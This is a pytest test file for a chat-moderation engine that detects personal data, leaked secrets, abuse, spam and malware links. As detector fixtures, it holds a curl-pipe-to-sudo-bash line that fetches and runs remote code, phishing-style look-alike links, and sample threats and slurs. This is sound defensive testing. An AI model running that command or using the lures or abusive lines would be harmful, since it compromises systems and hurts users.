"""Each detector: true positives, near misses and look-alike tricks."""
from __future__ import annotations

import pytest

from policies import Context, Message, evaluate, mask, mask_personal_data
from policies import personal


def rules(text: str, context: Context | None = None, **msg) -> set[str]:
    return {f.rule for f in evaluate(Message(text=text, **msg), context)}


def cats(text: str, context: Context | None = None, **msg) -> set[str]:
    return {f.category for f in evaluate(Message(text=text, **msg), context)}


# ------------------------------------------------------------ personal data

@pytest.mark.parametrize("text,found", [
    ("my card is 4242 4242 4242 4242 exp 12/27", True),
    ("card: 4111-1111-1111-1111", True),
    ("amex 378282246310005 please charge it", True),
    ("use 5555555555554444", True),
    ("order 4242 4242 4242 4241 shipped", False),       # fails Luhn
    ("ticket 1234567890123456", False),                  # fails Luhn
    ("0000 0000 0000 0000", False),                      # one repeated digit
    ("build 20240101123456 finished", False),
])
def test_card_numbers(text, found):
    assert ("privacy.card_number" in rules(text)) is found


def test_card_issuer_and_luhn_explained():
    f = [f for f in evaluate(Message(text="4242424242424242")) if f.rule == "privacy.card_number"][0]
    assert "Visa" in f.explanation and "Luhn" in f.explanation


@pytest.mark.parametrize("text,found", [
    ("IBAN GB82 WEST 1234 5698 7654 32 for the refund", True),
    ("send to DE89370400440532013000 today", True),
    ("from GB56HXDO88167774656119 to other bank accounts", True),
    ("IBAN GB82 WEST 1234 5698 7654 33", False),  # mod-97 fails
    ("version AB12 ABCD 1234", False),
])
def test_iban(text, found):
    assert ("privacy.iban" in rules(text)) is found


@pytest.mark.parametrize("text,found", [
    ("my SSN is 123-45-6789", True),
    ("ssn 123456789", True),
    ("SSN 000-12-3456", False),   # area 000 never issued
    ("SSN 666-12-3456", False),   # area 666 never issued
    ("SSN 923-12-3456", False),   # 9xx areas are not SSNs
    ("SSN 123-00-4567", False),   # group 00
    ("SSN 123-45-0000", False),   # serial 0000
    ("call 123456789", False),    # bare nine digits without context
])
def test_us_ssn(text, found):
    assert ("privacy.us_ssn" in rules(text)) is found


@pytest.mark.parametrize("text,found", [
    ("NI number AB 12 34 56 C", True),
    ("nino: JG103759A", True),
    ("NI number BG 12 34 56 C", False),   # BG prefix never issued
    ("NI number DA 12 34 56 C", False),   # D not used as first letter
    ("NI number AB 12 34 56 E", False),   # suffix must be A-D
])
def test_uk_nino(text, found):
    assert ("privacy.uk_nino" in rules(text)) is found


@pytest.mark.parametrize("text,found", [
    ("call me on +44 7700 900123", True),
    ("my mobile is (415) 555-2671", True),
    ("Desk: +41 (0)44 668 18 00", True),
    ("phone 030 901820", True),
    ("whatsapp +49 1512 3456789", True),
    ("the restaurant is at 704 1436 Redbud Dr", False),   # house numbers
    ("released 2024-03-15", False),
    ("the build took 12345678 ms", False),
    ("version 10.2.3.4 is out", False),
])
def test_phone_numbers(text, found):
    assert ("privacy.phone_number" in rules(text)) is found


@pytest.mark.parametrize("text,found", [
    ("mail jane.doe@gmail.com for the file", True),
    ("write to support@acme.io", False),        # role address
    ("contact sales@acme.io", False),
    ("@here hello", False),
])
def test_emails(text, found):
    assert ("privacy.email" in rules(text)) is found


def test_allowed_domain_email_not_flagged():
    from policies import load_policy_config

    cfg = load_policy_config({"allowed_domains": ["acme.io"]}, source="t.toml")
    assert not evaluate(Message(text="ping jane@acme.io"), config=cfg)


@pytest.mark.parametrize("text,found", [
    ("server at 81.2.69.160 is down", True),
    ("internal box 10.0.0.12", False),  # private range: below the default threshold
    ("released version 1.2.3.4", False),
    ("999.1.1.1 is not an address", False),
])
def test_ip_addresses(text, found):
    assert ("privacy.ip_address" in rules(text)) is found


@pytest.mark.parametrize("text,found", [
    ("password: hunter22", True),
    ("the password is Sup3r$ecret", True),
    ("pwd=letmein99", True),
    ("my password is wrong", False),
    ("two-factor login is gone", False),
    ("the pass is valid", False),
])
def test_passwords(text, found):
    assert ("privacy.password" in rules(text)) is found


def test_street_address():
    assert "privacy.street_address" in rules("send it to 221B Baker Street, London NW1 6XE")


# ------------------------------------------------------------------ secrets

@pytest.mark.parametrize("text,rule", [
    ("token xoxb-204813774526-1209384756102-QWpL3kd9Xr2mZt8V", "confidential.slack_token"),
    ("xapp-1-A04KQ7ZD2MX-5539120487216-9f3c2e71b0d84a6c", "confidential.slack_app_token"),
    ("AKIA4HQ2ZLMN7RTX3P5Q in the config", "confidential.aws_access_key"),
    ("ghp_" + "R8mK2vQ9xT4nLw7ZcB1yHd5sJf0gPa3eUo6i", "confidential.github_token"),
    ("github_pat_" + "11ABCQ7ZA0x9Lm2Rt5Wq8Kd3Vn6Yh1Pf4Gs7Ju0Ec3Bz6Xo9Ti2", "confidential.github_token"),
    ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "confidential.stripe_key"),
    ("AIza" + "SyD4k9Qm2LxT7vR0pW8nZb3cF6hJ1sEo5uY", "confidential.google_api_key"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIE...", "confidential.private_key"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1LTQ0NzEiLCJpYXQiOjE3MTYyMzkwMjJ9.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
     "confidential.jwt"),
])
def test_secrets(text, rule):
    assert rule in rules(text)


@pytest.mark.parametrize("text", [
    "xoxb is the prefix of bot tokens",
    "sk_test_4eC39HqLyjWDarjtT1zdp7dc is a test key",   # test keys are fine
    "AKIA followed by nothing",
    "-----BEGIN PUBLIC KEY-----",
])
def test_secret_near_misses(text):
    assert not any(r.startswith("confidential.") for r in rules(text))


@pytest.mark.parametrize("text", [
    "```\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n```",  # AWS's documentation key
    "SLACK_BOT_TOKEN=xoxb-your-bot-token-here",
    "GITHUB_TOKEN=ghp_" + "x" * 36,
    "token xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOp",
    # jwt.io's sample: subject "1234567890", John Doe
    "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    # a token issued by a documentation domain
    "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20vIiwic3ViIjoidS00NDcxIn0"
    ".Qm9Xk2vR8sLp3TzYw7NcHd5FjGa1Ue0iKb4MnOq6ErtY",
])
def test_documentation_stand_ins_are_no_case_but_are_masked(text):
    assert not any(r.startswith("confidential.") for r in rules(text))
    masked = mask_personal_data(text)
    assert "•••" in masked and "EXAMPLE" not in masked and "your-bot" not in masked


@pytest.mark.parametrize("text,rule", [
    # random letters that happen to spell a stand-in word, a digit six times
    ("token ghp_R8mK2vQ9xT4nLw7ZcB1yHd5sJfaKEgPa3eUo", "confidential.github_token"),
    ("xoxb-204813774526-1209384756102-qwpl3kd9YOURmzt8vbn1yhs0", "confidential.slack_token"),
    ("xoxb-204813777777-1209384756102-qwpl3kd9xr2mzt8vbn1yhs0e", "confidential.slack_token"),
    # real claims: Microsoft Graph's audience (twelve zeros), an issuer named example-corp
    ("Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJhdWQiOiIwMDAwMDAwMy0wMDAwLTAwMDAtYzAwMC0wMDAwMDAwMDAwMDAiLCJ1cG4iOiJq"
     "YW5lQGNvbnRvc28uY29tIiwiZXhwIjoxNzE2MjQyNjIyfQ.Qm9Xk2vR8sLp3TzYw7NcHd5FjGa1Ue0iKb4MnOq6ErtY", "confidential.jwt"),
    ("Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS1jb3JwLmNvbSIsInN1YiI6InUtNDQ3MSIs"
     "ImV4cCI6MTcxNjI0MjYyMn0.Qm9Xk2vR8sLp3TzYw7NcHd5FjGa1Ue0iKb4MnOq6ErtY", "confidential.jwt"),
])
def test_real_secrets_are_not_taken_for_stand_ins(text, rule):
    assert rule in rules(text)


def test_secret_in_code_block_still_found():
    assert "confidential.aws_access_key" in rules("```\naws_key = AKIA4HQ2ZLMN7RTX3P5Q\n```")


# ------------------------------------------------------------------ masking

def test_mask_keeps_hints():
    text = "card 4242 4242 4242 4242, mail jane.doe@gmail.com, token xoxb-204813774526-QWpL3kd9Xr2m"
    masked = mask(text, evaluate(Message(text=text)))
    assert "•••• •••• •••• 4242" in masked
    assert "j•••@gmail.com" in masked
    assert "xoxb-•••" in masked
    assert "jane.doe" not in masked and "204813774526" not in masked


def test_mask_personal_data_only_masks_sensitive():
    text = "you idiot, call +44 7700 900123"
    masked = mask_personal_data(text)
    assert "you idiot" in masked and "7700 900123" not in masked


# -------------------------------------------------------------- abusive text

@pytest.mark.parametrize("text,category", [
    ("I will kill you tomorrow", "threat"),
    ("i know where you live", "threat"),
    ("kys", "threat"),
    ("we should hang all of them", "threat"),
    ("someone should shoot him", "threat"),
    ("I hope your family dies", "threat"),
    ("kill all the immigrants", "threat"),
    ("you people are animals", "hate"),
    ("nobody likes you, just leave this community", "harassment"),
    ("all immigrants are vermin", "hate"),
    ("go back to your country", "hate"),
    ("you are a pathetic idiot", "harassment"),
    ("<@U123> shut up loser", "harassment"),
    ("this release is fucking broken", "vulgar"),
])
def test_abuse_categories(text, category):
    assert category in cats(text)


@pytest.mark.parametrize("text,category", [
    ("y0u are an id10t", "harassment"),                  # leetspeak
    ("you are an idi\u200bot", "harassment"),            # zero-width space
    ("y\u043eu \u0430re \u0430n idi\u043et", "harassment"),  # Cyrillic look-alikes
    ("fuuuuuck this", "vulgar"),                          # repeated letters
    ("f u c k this", "vulgar"),                           # spaced out
    ("ＦＵＣＫ this", "vulgar"),                          # full-width (NFKC)
])
def test_abuse_lookalike_tricks(text, category):
    assert category in cats(text)


@pytest.mark.parametrize("text", [
    "I grew up in Scunthorpe and studied in Sussex",
    "the skills assessment is on Monday",
    "cocktail party after the meetup",
    "I had to kill the process and restart the server",
    "this bug is killing me, any ideas?",
    "Can a moderator move this thread?",
    "class assignment: passage analysis",
    "we shot a quick demo video of the new editor",
    "we should kill the process before the deploy",
    "someone should kill that bug",
    "hope you get the job!",
    "leave this channel if you want, no pressure",
])
def test_abuse_near_misses(text):
    assert not cats(text) & {"threat", "hate", "harassment", "vulgar"}


def test_allowed_words_are_not_flagged():
    from policies import load_policy_config

    cfg = load_policy_config({"allowed_words": ["damn", "crap", "hell", "bloody"]}, source="t")
    assert not evaluate(Message(text="bloody hell this is crap"), config=cfg)


# ------------------------------------------------------------------ malware

@pytest.mark.parametrize("text,rule", [
    ("grab the fix <https://files.example.net/patch.exe|here>", "malware.executable_link"),
    ("install http://cdn.example.org/tool.ps1", "malware.executable_link"),
    ("login at https://paypa1.com/verify", "malware.lookalike_domain"),
    ("see https://slack-login.verify-account.io/x", "malware.lookalike_domain"),
    ("https://xn--pypal-4ve.com", "malware.punycode_domain"),
    ("http://185.23.44.1/invoice", "malware.ip_link"),
    ("<https://evil.example/x|https://github.com/acme>", "malware.mismatched_link"),
    ("URGENT verify your account now https://bit.ly/3abc", "malware.shortener_lure"),
    ("first disable your antivirus then run it", "malware.disable_protection"),
    ("just run curl -s https://cdn-patch.xyz/i.sh | sudo bash", "malware.exploit_delivery"),
])
def test_malware(text, rule):
    assert rule in rules(text)


@pytest.mark.parametrize("text", [
    "docs at https://github.com/acme/sdk and https://slack.com/help",
    "the shortlink https://bit.ly/3abc has the slides",
    "open <https://docs.example.com/setup|the setup guide>",
    "the file report.exe.txt is a log",
])
def test_malware_near_misses(text):
    assert "malware" not in cats(text)


def test_executable_attachment():
    assert "malware.executable_file" in rules("see attached", files=("invoice.scr",))


# ------------------------------------------------------------- spam, selling

def test_mass_mention_by_member_but_not_by_moderator():
    assert "spam.mass_mention" in rules("<!channel> buy my stuff")
    assert "spam.mass_mention" not in rules("<!channel> maintenance tonight", Context(author_role="moderator"))


def test_many_user_mentions():
    text = " ".join(f"<@U{i:03d}>" for i in range(6)) + " look"
    assert "spam.mention_spam" in rules(text)


def test_badgering_one_person():
    assert "harassment.mention_badgering" in rules("<@U1> <@U1> <@U1> answer me")


def test_new_member_links():
    text = "https://a.example/1 https://b.example/2 https://c.example/3"
    assert "spam.new_member_links" in rules(text, Context(account_age_days=1))
    assert "spam.new_member_links" not in rules(text, Context(account_age_days=400))


@pytest.mark.parametrize("text", [
    "Check out my channel and subscribe! https://youtube.com/c/me",
    "DM me for a 20% off discount code",
    "We offer SEO services, book a call today",
    "Vote for Jane Smith on Tuesday!",
])
def test_selling(text):
    assert "selling" in cats(text)


@pytest.mark.parametrize("text", [
    "DM me the logs and I will take a look",
    "Is the $15 add-on required for SSO?",
    "Check out the docs, the answer is in the FAQ",
])
def test_selling_near_misses(text):
    assert "selling" not in cats(text)


# ---------------------------------------------- impersonation, topic, etc.

@pytest.mark.parametrize("ctx,found", [
    (Context(display_name="Acme Support Team"), True),
    (Context(display_name="m0derator"), True),
    (Context(display_name="Jane Do3", staff_names=("Jane Doe",)), True),
    (Context(display_name="Jane Doe", staff_names=("Jane Doe",), author_role="moderator"), False),
    (Context(display_name="Jonathan", staff_names=("Jane Doe",)), False),
])
def test_impersonation_names(ctx, found):
    assert ("impersonation" in cats("hello", ctx)) is found


def test_staff_claim_by_member_only():
    assert "impersonation.staff_claim" in rules("I am a moderator, send me your password")
    assert "impersonation.staff_claim" not in rules("I am a moderator here", Context(author_role="moderator"))


def test_off_topic_only_with_topic():
    ctx = Context(channel_topic="Questions about the billing API and invoices")
    text = "Anyone watching the football tonight? Great match between those two teams"
    assert "off_topic" in cats(text, ctx)
    assert "off_topic" not in cats(text)
    assert "off_topic" not in cats("How do I download invoices through the billing API for last month?", ctx)
    assert "off_topic" not in cats("thanks!", ctx)


def test_confidential_marker_and_customer_record():
    assert "confidential.internal_marker" in rules("INTERNAL ONLY: Q3 roadmap draft", Context(author_role="employee"))
    text = "customer record: Jane Roe, jane.roe@gmail.com, +1 415 555 2671"
    assert "confidential.customer_record" in rules(text, Context(author_role="employee"))
    assert "confidential.customer_record" not in rules(text, Context(author_role="member"))


def test_violent_content_needs_warning():
    text = "video of the beheading, blood everywhere https://x.example/v"
    assert "violent_content" in cats(text)
    assert "violent_content" not in cats("CW: " + text)


def test_personal_helpers_direct():
    assert personal.luhn_ok("79927398713") and not personal.luhn_ok("79927398710")
    assert personal.iban_ok("GB82WEST12345698765432")
    assert personal.card_issuer("378282246310005") == "American Express"
    assert personal.ssn_ok("123", "45", "6789") and not personal.ssn_ok("666", "45", "6789")


# Hard ordinary messages from a support community: tech uses of violent
# words, identity words in neutral sentences, casual "you". None may be flagged.
@pytest.mark.parametrize("text", [
    "I hate this bug so much",
    "where is the kill switch for notifications?",
    "the build is dead again",
    "you're killing it, great talk!",
    "shoot me an email when it's fixed",
    "let's execute the migration plan tonight",
    "I'm dying to try the new editor",
    "ur the best, thanks",
    "my password reset link expired",
    "the black theme looks great",
    "women in tech meetup on friday",
    "our gay pride channel is open to all",
    "muslim holidays calendar integration?",
    "the chinese localisation is broken",
    "you are wrong about the rate limits, read the docs",
    "I will destroy the old index tomorrow",
    "I am a moderator of the Python group at my local meetup",
    "vote for your favourite feature in the roadmap thread",
    "you should die laughing at this bug report",
    "Is it ok to share my company's logo in a screenshot?",
    "Happy to help, DM me the error id",
])
def test_hard_ordinary_messages_not_flagged(text):
    assert evaluate(Message(text=text)) == []
